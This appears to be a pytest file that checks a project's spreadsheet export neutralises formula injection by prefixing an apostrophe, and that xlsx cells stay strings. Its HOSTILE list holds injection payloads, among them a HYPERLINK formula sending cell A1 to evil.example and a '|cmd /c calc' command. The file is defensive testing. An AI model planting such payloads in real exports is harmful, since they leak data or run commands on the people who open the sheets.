"""One rule keeps exported text from running as a formula in the reader's spreadsheet."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from haven.core.spreadsheets import csv_cells, spreadsheet_text, xlsx_append

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)",
           "|cmd /c calc", "%0A", " =1+1", "\t=1+1", "\ufeff=1+1", "\r\n@x", "\u00a0-1",
           "\uff1d1+1", "\tplain", "\rplain"]
HARMLESS = ["Goris", "Վարդանյան", "Варданян", "a=b", "1-2", "HVN-7K4Q", "", "x@y.am",
            "'quoted"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_as_it_is(text):
    assert spreadsheet_text(text) == text


def test_csv_cells_leave_numbers_and_empties_alone():
    assert csv_cells(["=1", 3, None, -4, "ok"]) == ["'=1", 3, None, -4, "ok"]


def test_xlsx_cells_are_strings_never_formulas_and_dates_are_dates():
    book = openpyxl.Workbook()
    xlsx_append(book.active, ['=HYPERLINK("http://evil.example","Click")', 5,
                              dt.date(2023, 9, 25), None, "Goris"])
    out = io.BytesIO()
    book.save(out)
    row = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active[1]
    assert row[0].data_type == "s"
    assert row[0].value == '\'=HYPERLINK("http://evil.example","Click")'
    assert (row[1].data_type, row[1].value) == ("n", 5)
    assert row[2].is_date
    assert row[2].value.date() == dt.date(2023, 9, 25)
    assert row[3].value is None
    assert (row[4].data_type, row[4].value) == ("s", "Goris")
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as workbook:
        sheet = workbook.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet  # no formula element in the sheet
